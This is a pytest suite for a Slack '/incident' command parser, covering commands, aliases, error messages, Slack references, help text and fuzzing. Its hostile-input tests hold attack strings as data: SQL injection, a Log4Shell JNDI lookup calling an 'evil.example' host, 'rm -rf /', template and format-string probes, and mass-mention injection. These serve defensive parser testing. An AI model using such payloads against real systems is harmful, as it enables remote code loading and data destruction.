"""The `/incident` grammar: every command and alias, Slack's escaped references, and hostile input."""

from __future__ import annotations

import random

import pytest
from pydantic import BaseModel, TypeAdapter, ValidationError

from domain.commands import (
    HELP_TEXT,
    AddFollowup,
    AssignRole,
    Broadcast,
    CancelReminder,
    Command,
    CreateTicket,
    Debrief,
    Declare,
    Help,
    ListFollowups,
    ListReminders,
    PostUpdate,
    Remind,
    Resolve,
    SetCommander,
    SetSeverity,
    SetStage,
    StartCall,
    Status,
    Timeline,
    UsageError,
    help_text,
    parse_channel,
    parse_command,
    usage_for,
)
from domain.usage import parse_user, parse_user_named
from domain.vocab import Severity, Stage

VALID: list[tuple[str, BaseModel]] = [
    # help
    ("", Help()),
    ("   \n\t ", Help()),
    ("help", Help()),
    ("HELP", Help()),
    ("?", Help()),
    ("--help", Help()),
    ("help stage", Help(topic="stage")),
    ("help ic", Help(topic="commander")),
    ("help Zoom", Help(topic="call")),
    # declare, new, open
    ("declare Checkout is down", Declare(title="Checkout is down")),
    ("new Checkout is down", Declare(title="Checkout is down")),
    ("open Checkout is down", Declare(title="Checkout is down")),
    ("DECLARE Checkout", Declare(title="Checkout")),
    ("declare", Declare(title=None)),
    ("declare sev1", Declare(title=None, severity=Severity.SEV1)),
    ("declare --private", Declare(title=None, private=True)),
    ("declare sev1 DB down", Declare(title="DB down", severity=Severity.SEV1)),
    ("declare SEV2 DB down", Declare(title="DB down", severity=Severity.SEV2)),
    ("declare Sev4 DB down", Declare(title="DB down", severity=Severity.SEV4)),
    ("declare --private DB down", Declare(title="DB down", private=True)),
    ("declare sev1 --private DB down", Declare(title="DB down", severity=Severity.SEV1, private=True)),
    ("declare --private sev1 DB down", Declare(title="DB down", severity=Severity.SEV1, private=True)),
    ("declare --PRIVATE DB", Declare(title="DB", private=True)),
    ("declare \u2014private DB", Declare(title="DB", private=True)),  # phone autocorrect of `--`
    ("declare p1 outage", Declare(title="p1 outage")),  # only sevN is a severity
    ("declare DB down sev1", Declare(title="DB down sev1")),  # options only before the title
    ("declare   DB    down \n  again  ", Declare(title="DB down again")),
    ("declare R&amp;D wiki &lt;down&gt;", Declare(title="R&D wiki <down>")),
    ("declare Paiement échoué 🔥", Declare(title="Paiement échoué 🔥")),
    ("declare " + "x" * 150, Declare(title="x" * 150)),
    # stage
    ("stage", SetStage(stage=None)),
    ("stage investigating", SetStage(stage=Stage.INVESTIGATING)),
    ("stage identified found it", SetStage(stage=Stage.IDENTIFIED, context="found it")),
    ("stage mitigated rolled back", SetStage(stage=Stage.MITIGATED, context="rolled back")),
    ("stage investigate", SetStage(stage=Stage.INVESTIGATING)),
    ("stage identify", SetStage(stage=Stage.IDENTIFIED)),
    ("stage mitigate", SetStage(stage=Stage.MITIGATED)),
    ("Stage MITIGATED ok", SetStage(stage=Stage.MITIGATED, context="ok")),
    (
        "stage identified line one\n\n\n\nline two  ",
        SetStage(stage=Stage.IDENTIFIED, context="line one\n\nline two"),
    ),
    # update
    ("update all good", PostUpdate(text="all good")),
    ("update  two   spaces\n  next line\ttab", PostUpdate(text="two spaces\nnext line\ttab")),
    (
        "update <@U123ABC> is on it in <#C123ABC|ops>",
        PostUpdate(text="<@U123ABC> is on it in <#C123ABC|ops>"),
    ),
    ("update " + "y" * 3000, PostUpdate(text="y" * 3000)),
    # severity, sev
    ("severity sev1", SetSeverity(severity=Severity.SEV1)),
    ("sev SEV2 customers affected", SetSeverity(severity=Severity.SEV2, reason="customers affected")),
    ("severity sev4  calm now ", SetSeverity(severity=Severity.SEV4, reason="calm now")),
    # commander, ic, lead
    ("commander <@U123ABC>", SetCommander(user_id="U123ABC")),
    ("ic <@U123ABC|alice>", SetCommander(user_id="U123ABC", user_name="alice")),
    ("lead <@W0ABC12>", SetCommander(user_id="W0ABC12")),
    ("commander <@U123ABC|Ada Lovelace>", SetCommander(user_id="U123ABC", user_name="Ada Lovelace")),
    ("commander   <@U123ABC>  ", SetCommander(user_id="U123ABC")),
    # call, zoom, meet
    ("call", StartCall()),
    ("call zoom", StartCall(provider="zoom")),
    ("call MEET", StartCall(provider="meet")),
    ("zoom", StartCall(provider="zoom")),
    ("meet", StartCall(provider="meet")),
    ("Zoom", StartCall(provider="zoom")),
    # jira, ticket
    ("jira Fix the retry storm", CreateTicket(summary="Fix the retry storm")),
    ("ticket Fix it\nplease", CreateTicket(summary="Fix it please")),
    ("jira " + "z" * 255, CreateTicket(summary="z" * 255)),
    # remind, reminders
    ("remind in 10m check the graphs", Remind(when="in 10m", text="check the graphs")),
    ("remind tomorrow at 9am ask &lt;vendor&gt;", Remind(when="tomorrow at 9am", text="ask <vendor>")),
    ("remind 2026-11-28T09:00 renew cert", Remind(when="2026-11-28T09:00", text="renew cert")),
    ("remind at 16:00 standup\nbring notes", Remind(when="at 16:00", text="standup\nbring notes")),
    ("remind cancel rem-42", CancelReminder(reminder_id="rem-42")),
    ("remind CANCEL 1a2b_3.c", CancelReminder(reminder_id="1a2b_3.c")),
    ("remind list", ListReminders()),
    ("reminders", ListReminders()),
    # broadcast
    ("broadcast", Broadcast()),
    ("broadcast show", Broadcast()),
    ("broadcast add <#C111>", Broadcast(action="add", channel_ids=("C111",))),
    ("broadcast add <#C111|ops> <#G222|private>", Broadcast(action="add", channel_ids=("C111", "G222"))),
    ("broadcast add <#C111>,<#C222>, <#C111>", Broadcast(action="add", channel_ids=("C111", "C222"))),
    ("broadcast ADD <#C111|>", Broadcast(action="add", channel_ids=("C111",))),
    ("broadcast remove <#C111|ops>", Broadcast(action="remove", channel_ids=("C111",))),
    # no-argument commands
    ("status", Status()),
    ("timeline", Timeline()),
    ("debrief", Debrief()),
    ("followups", ListFollowups()),
    ("follow-ups", ListFollowups()),
    ("STATUS", Status()),
    # role
    ("role comms <@U123ABC>", AssignRole(role="comms", user_id="U123ABC")),
    ("role Scribe <@U123ABC|bob>", AssignRole(role="scribe", user_id="U123ABC", user_name="bob")),
    ("role db-expert_2 <@W9>", AssignRole(role="db-expert_2", user_id="W9")),
    ("role commander <@U1>", AssignRole(role="commander", user_id="U1")),
    # followup
    ("followup add an alert on queue depth", AddFollowup(text="add an alert on queue depth")),
    ("follow-up write tests", AddFollowup(text="write tests")),
    # resolve, close
    ("resolve", Resolve()),
    ("resolve rolled back the deploy", Resolve(summary="rolled back the deploy")),
    ("close all good", Resolve(summary="all good")),
    # zero-width characters pasted around the command word
    ("\u200bstatus", Status()),
    ("\ufeffupdate hi", PostUpdate(text="hi")),
]


@pytest.mark.parametrize(("text", "expected"), VALID, ids=[repr(t)[:50] for t, _ in VALID])
def test_parses(text: str, expected: BaseModel) -> None:
    command = parse_command(text)
    assert type(command) is type(expected)
    assert command == expected


ERRORS: list[tuple[str, str, str]] = [
    # (text, part of the message, part of the usage)
    ("help frobnicate", "no command", "/incident declare"),
    ("declare sev5 DB", "sev5", "/incident declare"),
    ("declare sev0 DB", "sev0", "/incident declare"),
    ("declare sev1 sev2 DB", "once", "/incident declare"),
    ("declare --privat DB", "--privat", "--private"),
    ("declare " + "x" * 151, "151 characters", "/incident declare"),
    ("stage frozen", "investigating, identified or mitigated", "/incident stage"),
    ("stage mitigation done", "`mitigation`", "/incident stage"),
    ("update", "`update` needs", "/incident update [--public] <text>"),
    ("update    \n\t ", "`update` needs", "/incident update"),
    ("update \u200b\u200e", "`update` needs", "/incident update"),
    ("update " + "y" * 3001, "3001 characters", "/incident update"),
    ("severity", "sev1", "/incident severity"),
    ("sev high", "sev1", "/incident severity"),
    ("severity sev9", "sev9", "/incident severity"),
    ("commander", "@", "/incident commander"),
    ("commander @alice", "autocomplete", "/incident commander"),
    ("ic alice", "autocomplete", "/incident commander"),
    ("lead <#C123ABC|ops>", "is a channel", "/incident commander"),
    ("commander <@U1> <@U2>", "one commander", "/incident commander"),
    ("commander <!channel>", "not a person", "/incident commander"),
    ("commander <@>", "not a person", "/incident commander"),
    ("commander <@U123", "not a person", "/incident commander"),
    ("commander <@u123abc>", "not a person", "/incident commander"),
    ("commander <@C123ABC>", "not a person", "/incident commander"),
    ("call teams", "`zoom` or `meet`", "/incident call"),
    ("call zoom meet", "`zoom` or `meet`", "/incident call"),
    ("zoom now", "takes no arguments", "/incident call"),
    ("jira", "`jira` needs", "/incident jira"),
    ("ticket " + "z" * 256, "256 characters", "/incident jira"),
    ("remind", "Say when", "/incident remind"),
    ("remind in 10m", "`remind` needs", "/incident remind"),
    ("remind in 10m   \n ", "`remind` needs", "/incident remind"),
    ("remind soon check", "`soon`", "/incident remind"),
    ("remind in 0m check", "longer than zero", "/incident remind"),
    ("remind in 99999999999d check", "a year", "/incident remind"),
    ("remind cancel", "ID", "/incident remind cancel"),
    ("remind cancel a b", "ID", "/incident remind cancel"),
    ("remind cancel <@U1>", "ID", "/incident remind cancel"),
    ("remind in 10m " + "r" * 3001, "3001 characters", "/incident remind"),
    ("broadcast add", "Name the channels", "/incident broadcast"),
    ("broadcast remove", "Name the channels", "/incident broadcast"),
    ("broadcast add #general", "autocomplete", "/incident broadcast"),
    ("broadcast add <@U123ABC>", "is a person", "/incident broadcast"),
    ("broadcast add <#C1> general", "autocomplete", "/incident broadcast"),
    ("broadcast add <#|x>", "not a channel", "/incident broadcast"),
    ("broadcast add <#c123>", "not a channel", "/incident broadcast"),
    ("broadcast <#C1>", "`add` or `remove`", "/incident broadcast"),
    ("broadcast delete <#C1>", "`add` or `remove`", "/incident broadcast"),
    ("status now", "takes no arguments", "/incident status"),
    ("timeline please", "takes no arguments", "/incident timeline"),
    ("debrief x", "takes no arguments", "/incident debrief"),
    ("reminders all", "takes no arguments", "/incident reminders"),
    ("followups open", "takes no arguments", "/incident followups"),
    ("role", "role and the person", "/incident role"),
    ("role comms", "person", "/incident role"),
    ("role 9lives <@U1>", "not a role name", "/incident role"),
    ("role " + "a" * 32 + " <@U1>", "not a role name", "/incident role"),
    ("role com.ms <@U1>", "not a role name", "/incident role"),
    ("role comms @bob", "autocomplete", "/incident role"),
    ("role comms <#C1>", "is a channel", "/incident role"),
    ("followup", "`followup` needs", "/incident followup"),
    ("resolve " + "s" * 3001, "3001 characters", "/incident resolve"),
]


@pytest.mark.parametrize(("text", "message", "usage"), ERRORS, ids=[repr(t)[:50] for t, _, _ in ERRORS])
def test_rejects_with_usage(text: str, message: str, usage: str) -> None:
    with pytest.raises(UsageError) as raised:
        parse_command(text)
    error = raised.value
    assert message in error.message
    assert usage in error.usage
    assert "\n" not in error.message
    assert str(error) == f"{error.message}\nUsage: {error.usage}"


@pytest.mark.parametrize(
    ("typed", "near"),
    [
        ("updte", "update"),
        ("Updte now", "update"),
        ("stat", "status"),
        ("resolv x", "resolve"),
        ("tickt", "ticket"),
    ],
)
def test_a_near_miss_names_the_command_in_one_line(typed: str, near: str) -> None:
    with pytest.raises(UsageError) as raised:
        parse_command(typed)
    word = typed.split()[0]
    assert str(raised.value) == (
        f"I don't know `{word}`. Did you mean `/incident {near}`? `/incident help {near}` shows how."
    )


@pytest.mark.parametrize("typed", ["xyz", "escalate now", "frobnicate the cache", "​zz"])
def test_a_far_miss_points_at_help_without_a_guess_or_the_listing(typed: str) -> None:
    with pytest.raises(UsageError) as raised:
        parse_command(typed)
    word = typed.split()[0].strip("​")
    assert str(raised.value) == f"I don't know `{word}`; `/incident help` lists the commands."


def test_usage_names_the_registered_slash_command() -> None:
    with pytest.raises(UsageError) as raised:
        parse_command("stage frozen", command_name="/inc")
    assert raised.value.usage == "`/inc stage <investigating|identified|mitigated> [context]`"
    with pytest.raises(UsageError) as unknown:
        parse_command("updat x", command_name="/inc")
    assert "Did you mean `/inc update`? `/inc help update` shows how." in str(unknown.value)
    assert "/incident" not in str(unknown.value)


# --- Slack references ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("token", "user_id"),
    [
        ("<@U123ABC>", "U123ABC"),
        ("<@U123ABC|alice>", "U123ABC"),
        ("<@W0XYZ|>", "W0XYZ"),
        (" <@U1|a b> ", "U1"),
    ],
)
def test_parse_user(token: str, user_id: str) -> None:
    assert parse_user(token) == user_id


@pytest.mark.parametrize(
    ("token", "expected"),
    [
        ("<@U123ABC|alice>", ("U123ABC", "alice")),
        (" <@U1|Ada  Lovelace> ", ("U1", "Ada Lovelace")),
        ("<@U1|ada &amp; co>", ("U1", "ada & co")),  # Slack's entities, decoded
        ("<@U123ABC>", ("U123ABC", None)),
        ("<@W0XYZ|>", ("W0XYZ", None)),
        ("<@U1|\u200b\u202e>", ("U1", None)),  # nothing visible left
        ("<@U1|ada@example.com>", ("U1", None)),  # only names, never an email address
        ("<@U1|" + "a" * 100 + ">", ("U1", "a" * 80)),
    ],
)
def test_parse_user_keeps_the_name_slack_sent(token: str, expected: tuple[str, str | None]) -> None:
    assert parse_user_named(token) == expected


@pytest.mark.parametrize(
    ("token", "message"),
    [
        ("@alice", "autocomplete"),
        ("alice", "autocomplete"),
        ("U123ABC", "autocomplete"),
        ("", "autocomplete"),
        ("<#C123ABC|ops>", "is a channel"),
        ("<!here>", "not a person"),
        ("<!subteam^S123|@oncall>", "not a person"),
        ("<@>", "not a person"),
        ("<@|alice>", "not a person"),
        ("<@U123", "not a person"),
        ("<@U12 3>", "not a person"),
        ("<@B123ABC>", "not a person"),
        ("<https://evil.example|click>", "not a person"),
    ],
)
def test_parse_user_rejects(token: str, message: str) -> None:
    with pytest.raises(UsageError, match=message):
        parse_user(token)


@pytest.mark.parametrize(
    ("token", "channel_id"),
    [("<#C123ABC>", "C123ABC"), ("<#C123ABC|general>", "C123ABC"), ("<#G0PRIV|>", "G0PRIV")],
)
def test_parse_channel(token: str, channel_id: str) -> None:
    assert parse_channel(token) == channel_id


@pytest.mark.parametrize(
    ("token", "message"),
    [
        ("#general", "autocomplete"),
        ("general", "autocomplete"),
        ("<@U123ABC>", "is a person"),
        ("<#|x>", "not a channel"),
        ("<#>", "not a channel"),
        ("<#C123", "not a channel"),
        ("<#D123ABC>", "not a channel"),
        ("<!channel>", "not a channel"),
    ],
)
def test_parse_channel_rejects(token: str, message: str) -> None:
    with pytest.raises(UsageError, match=message):
        parse_channel(token)


# --- help and usage ------------------------------------------------------------------------------------

WORDS = (
    "help declare stage update severity commander call jira statuspage page remind reminders broadcast "
    "status timeline role followup followups split debrief resolve"
).split()


def test_help_text_has_one_line_per_command() -> None:
    lines = HELP_TEXT.splitlines()
    assert len(lines) == len(WORDS)
    for line, word in zip(lines, WORDS, strict=True):
        assert line.startswith(f"`/incident {word}")
    for alias in ("new", "open", "sev", "ic", "lead", "zoom", "meet", "ticket", "close"):
        assert f"`{alias}`" in HELP_TEXT or f"/incident {alias}`" in HELP_TEXT


def test_help_text_for_another_slash_command() -> None:
    text = help_text("/inc")
    assert "/incident" not in text
    assert text.splitlines()[1].startswith("`/inc declare ")
    assert help_text("inc") == text
    assert help_text() == HELP_TEXT


@pytest.mark.parametrize(
    ("key", "expected"),
    [
        ("set_stage", "`/incident stage <investigating|identified|mitigated> [context]`"),
        ("SetStage", "`/incident stage <investigating|identified|mitigated> [context]`"),
        ("stage", "`/incident stage <investigating|identified|mitigated> [context]`"),
        ("ic", "`/incident commander <@user>`"),
        ("set_commander", "`/incident commander <@user>`"),
        ("Declare", "`/incident declare [sev1..sev4] [--private] <title>`"),
        ("zoom", "`/incident call [zoom|meet]`"),
        ("list_followups", "`/incident followups`"),
        ("nonsense", HELP_TEXT),
    ],
)
def test_usage_for(key: str, expected: str) -> None:
    assert usage_for(key) == expected


def test_usage_for_every_command_kind_is_specific() -> None:
    for _text, command in VALID:
        kind = command.kind  # type: ignore[attr-defined]
        assert usage_for(kind) != HELP_TEXT, kind
        assert usage_for(kind).startswith("`/incident "), kind


# --- the models ----------------------------------------------------------------------------------------


def test_commands_are_frozen() -> None:
    command = parse_command("update hi")
    with pytest.raises(ValidationError):
        command.text = "changed"  # type: ignore[misc, union-attr]


@pytest.mark.parametrize(("text", "expected"), VALID[::3])
def test_command_union_round_trips_on_kind(text: str, expected: BaseModel) -> None:
    adapter: TypeAdapter[Command] = TypeAdapter(Command)
    dumped = adapter.dump_python(parse_command(text), mode="json")
    assert dumped["kind"] == expected.kind  # type: ignore[attr-defined]
    assert adapter.validate_python(dumped) == expected


def test_kinds_are_distinct() -> None:
    kinds = {type(c).__name__: c.kind for _, c in VALID}  # type: ignore[attr-defined]
    assert len(set(kinds.values())) == len(kinds) == 19


def test_models_check_ids_when_built_directly() -> None:
    with pytest.raises(ValidationError):
        SetCommander(user_id="alice")
    with pytest.raises(ValidationError):
        Broadcast(action="add", channel_ids=("#general",))
    with pytest.raises(ValidationError):
        Declare(title="x" * 151)


# --- hostile input -------------------------------------------------------------------------------------

HOSTILE = [
    "",
    " ",
    "\x00",
    "\x00\x01\x02 status",
    "update \x00hi\x07 there\x1b[31m",
    "update a\r\nb\rc",
    "update \u202eevil\u202c text",
    "update \u200f\u200e",
    "update \ud800 lone surrogate",
    "update 🔥🚒 家族 👨\u200d👩\u200d👧",
    "update '; DROP TABLE incidents; --",
    "update <!channel> <!here> <!everyone>",
    "update ${jndi:ldap://evil.example/a}",
    "update {{7*7}} %s %n",
    "declare <!channel> is down",
    "declare `rm -rf /`",
    "<!channel>",
    "${jndi:ldap://x}",
    "'; DROP TABLE x",
    "ic <@U1|<!channel>>",
    "broadcast add <#C1|<!here>>",
    "<@>",
    "<#|x>",
    "<@U123",
    "role <@U1> <@U1>",
    "x" * 100_000,
    "update " + "x" * 100_000,
    "declare " + "sev1 " * 20_000,
    "remind " + "in " * 30_000,
    "remind in " + "1h" * 30_000 + " x",
    "broadcast add " + "<#C1> " * 20_000,
    "ic " + "<" * 100_000,
    "\u202e" * 100_000,
    "\n" * 100_000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=[repr(t)[:40] for t in HOSTILE])
def test_hostile_input_is_a_command_or_a_usage_error(text: str) -> None:
    try:
        command = parse_command(text)
    except UsageError as e:
        assert e.message and (e.usage or "`/incident help" in e.message)
        assert len(e.message) < 400
        assert "\n" not in e.message
        return
    TypeAdapter(Command).validate_python(command)


def test_free_text_is_kept_as_typed_apart_from_control_characters() -> None:
    assert parse_command("update \x00hi\x07 there") == PostUpdate(text="hi there")
    assert parse_command("update a\r\nb\rc") == PostUpdate(text="a\nb\nc")
    assert parse_command("update \u202eevil\u202c") == PostUpdate(text="\u202eevil\u202c")
    assert parse_command("update 🔥 家族 👨\u200d👩\u200d👧") == PostUpdate(text="🔥 家族 👨\u200d👩\u200d👧")
    assert parse_command("update '; DROP TABLE x; --") == PostUpdate(text="'; DROP TABLE x; --")
    assert parse_command("update ${jndi:ldap://x/a}") == PostUpdate(text="${jndi:ldap://x/a}")
    # Rendering escapes for Slack; the parser hands over what the person wrote.
    assert parse_command("update <!channel> &lt;!here&gt;") == PostUpdate(text="<!channel> <!here>")
    assert parse_command("update lone \ud800 surrogate") == PostUpdate(text="lone surrogate")


def test_echoed_input_cannot_break_out_of_its_code_span_or_run_on() -> None:
    with pytest.raises(UsageError) as raised:
        parse_command("`<!channel>`\u202e" + "x" * 500)
    message = raised.value.message
    assert message.count("`") == 4  # the echo's code span, then `/incident help`
    assert message.split("`")[1] == "'<!channel>'" + "x" * 18 + "…"
    assert "\u202e" not in message
    assert len(message) < 100


# Command words, sigils, digits, unicode and whitespace, to stumble into every branch of the grammar.
_FUZZ_ALPHABET = [
    *WORDS, "new", "open", "sev", "ic", "lead", "zoom", "meet", "ticket", "close", "cancel", "add", "remove",
    "show", "list", "sev1", "sev5", "--private", "--", "investigating", "mitigate", "comms", "in", "at",
    "tomorrow", "10m", "16:00", "4pm", "2026-11-28T09:00", "<", ">", "@", "#", "|", "!", "<@U1>", "<#C1>",
    "<@U1|a b>", "<#C1|>", "U", "C", "0", "1", "9", "99999999999", "&amp;", "&lt;", "`", "é", "家", "🔥",
    "\u202e", "\u200b", "\ufeff", "\x00", "\x1b", "\ud800", " ", "  ", "\n", "\t", "\r",
]  # fmt: skip


def test_fuzz_parse_command_only_raises_usage_error() -> None:
    rng = random.Random(1127)
    adapter: TypeAdapter[Command] = TypeAdapter(Command)
    parsed = 0
    for _ in range(5000):
        pieces = [rng.choice(_FUZZ_ALPHABET) for _ in range(rng.randint(0, 12))]
        text = "".join(piece + rng.choice(["", " ", " ", "\n"]) for piece in pieces)
        try:
            command = parse_command(text)
        except UsageError as e:
            assert e.message and (e.usage or "`/incident help" in e.message)
            continue
        parsed += 1
        assert adapter.validate_python(adapter.dump_python(command)) == command
    assert parsed > 500  # the generator reaches valid commands, not only errors
